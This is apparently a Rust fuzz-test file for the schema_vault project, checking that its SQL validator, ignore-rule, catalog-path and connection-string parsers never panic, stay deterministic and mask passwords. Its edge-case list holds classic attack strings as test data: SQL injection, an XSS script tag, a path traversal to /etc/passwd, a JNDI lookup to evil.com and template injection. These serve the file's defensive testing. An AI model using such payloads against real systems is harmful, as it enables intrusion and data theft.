//! Black-box fuzzing of the pure parsing entry points.
//!
//! Random, malicious and edge-case inputs must produce a value or an error,
//! never a panic, and the same input must always give the same answer.

use rand::Rng;
use rand::distributions::Alphanumeric;
use rand::seq::SliceRandom;
use schema_vault::config::DatabaseConfig;
use schema_vault::db::dialect::{MYSQL, POSTGRES, REDSHIFT, SQLITE};
use schema_vault::db::{PreparedConnection, detect_kind};
use schema_vault::models::CatalogPath;
use schema_vault::tools::sql_validator::{EXCERPT_MAX_CHARS, check_static};
use schema_vault::tools::{IgnoreRule, IgnoreRules};

/// Generate random string of given length
fn random_string(len: usize) -> String {
    rand::thread_rng()
        .sample_iter(&Alphanumeric)
        .take(len)
        .map(char::from)
        .collect()
}

/// Generate various edge-case strings
fn edge_case_strings() -> Vec<String> {
    vec![
        String::new(),                           // Empty
        " ".to_string(),                         // Single space
        "\n\r\t".to_string(),                    // Whitespace chars
        "\0".to_string(),                        // Null byte
        "üöÄ".repeat(100),                        // Unicode
        "'OR 1=1--".to_string(),                 // SQL injection
        "'; DROP TABLE users--".to_string(),     // SQL injection
        "<script>alert(1)</script>".to_string(), // XSS
        "../../etc/passwd".to_string(),          // Path traversal
        "a".repeat(10000),                       // Very long string
        random_string(100),
        "\u{0000}\u{FFFF}".to_string(), // Special unicode
        "1' UNION SELECT NULL, NULL--".to_string(),
        "${jndi:ldap://evil.com/a}".to_string(), // Placeholder lookalike
        "{{7*7}}".to_string(),                   // Template injection
        "\x00\x01\x02".to_string(),              // Binary data
        "/* unterminated".to_string(),
        "\"unterminated".to_string(),
        "**.**.**".to_string(),
        "[!a-".to_string(),
        "!".to_string(),
        "schema:".to_string(),
        "jdbc:".to_string(),
        "odbc://?driver=".to_string(),
        "postgres://u:p@h:99999/db".to_string(),
        "sqlite:".to_string(),
    ]
}

/// Fragments that keep random statements close to real SQL.
const SQL_FRAGMENTS: &[&str] = &[
    "SELECT", "*", "FROM", "users", "WHERE", "id", "=", "1", "'x'", ";", "(", ")", ",", ".",
    "DROP", "delete", "Insert", "REPLACE", "--", "/*", "*/", "\"q\"", "`b`", "$$", "WITH",
    "AS", "INTO", "\n", " ",
];

fn random_sql(rng: &mut impl Rng) -> String {
    let len = rng.gen_range(1..40);
    (0..len)
        .map(|_| *SQL_FRAGMENTS.choose(rng).unwrap_or(&" "))
        .collect::<Vec<_>>()
        .join(" ")
}

#[test]
fn fuzz_check_static_never_panics() {
    let mut rng = rand::thread_rng();
    let mut inputs = edge_case_strings();
    inputs.extend((0..500).map(|_| random_sql(&mut rng)));

    for sql in &inputs {
        for profile in [&POSTGRES, &REDSHIFT, &MYSQL, &SQLITE] {
            let first = check_static(profile, sql);
            let second = check_static(profile, sql);
            match (&first, &second) {
                (Ok(a), Ok(b)) => {
                    assert_eq!(a, b, "non-deterministic result for {:?}", sql);
                    if let Some(excerpt) = &a.excerpt {
                        assert!(excerpt.chars().count() <= EXCERPT_MAX_CHARS);
                    }
                }
                (Err(_), Err(_)) => {}
                _ => panic!("non-deterministic outcome for {:?}", sql),
            }
        }
    }
}

#[test]
fn fuzz_denylisted_word_after_select_is_rejected() {
    let mut rng = rand::thread_rng();
    for _ in 0..200 {
        let table = random_string(rng.gen_range(1..12));
        let sql = format!("SELECT * FROM t_{}; DELETE FROM t_{}", table, table);
        let result = check_static(&POSTGRES, &sql).unwrap();
        assert!(result.is_rejected(), "{}", sql);
    }
}

#[test]
fn fuzz_ignore_rules_never_panic() {
    let mut rng = rand::thread_rng();
    let mut lines = edge_case_strings();
    lines.extend((0..200).map(|_| {
        let scope = ["", "catalog:", "schema:", "table:", "!", "!schema:"]
            .choose(&mut rng)
            .copied()
            .unwrap_or("");
        let segments: Vec<String> = (0..rng.gen_range(1..5))
            .map(|_| {
                let mut s = random_string(rng.gen_range(0..4));
                if rng.gen_bool(0.3) {
                    s.push('*');
                }
                s
            })
            .collect();
        format!("{}{}", scope, segments.join("."))
    }));

    let valid: Vec<IgnoreRule> = lines
        .iter()
        .filter_map(|line| IgnoreRule::parse(line).ok())
        .collect();
    let rules = IgnoreRules::from_rules(valid).unwrap_or_default();

    for _ in 0..200 {
        let path = CatalogPath::table(
            random_string(rng.gen_range(1..6)),
            random_string(rng.gen_range(1..6)),
            random_string(rng.gen_range(1..6)),
        );
        assert_eq!(rules.is_ignored(&path), rules.is_ignored(&path));
    }
}

#[test]
fn fuzz_catalog_paths_never_panic() {
    for s in edge_case_strings() {
        if let Ok(path) = s.parse::<CatalogPath>() {
            assert_eq!(path.to_string().parse::<CatalogPath>().ok(), Some(path));
        }
    }
}

#[test]
fn fuzz_connection_strings_never_panic() {
    let schemes = [
        "postgres", "pg", "redshift", "mysql", "mariadb", "sqlite", "snowflake", "jdbc:postgresql",
        "odbc", "bogus",
    ];
    let mut rng = rand::thread_rng();
    let mut inputs = edge_case_strings();
    inputs.extend((0..200).map(|_| {
        let scheme = schemes.choose(&mut rng).copied().unwrap_or("postgres");
        format!(
            "{}://{}:{}@{}/{}?{}={}",
            scheme,
            random_string(4),
            random_string(6),
            random_string(8),
            random_string(5),
            random_string(3),
            random_string(3),
        )
    }));

    for raw in &inputs {
        let _ = detect_kind(raw, None);
        let _ = PreparedConnection::parse(raw, None);
        let _ = PreparedConnection::parse(raw, Some("postgres"));
        let _ = DatabaseConfig::parse(raw);
    }
}

#[test]
fn fuzz_prepared_connection_never_leaks_password() {
    let mut rng = rand::thread_rng();
    for _ in 0..100 {
        let password = format!("pw{}", random_string(rng.gen_range(8..16)));
        let raw = format!("postgres://admin:{}@db.internal:5432/sales", password);
        let prepared = PreparedConnection::parse(&raw, None).unwrap();
        assert!(!prepared.masked_url().contains(&password));
    }
}
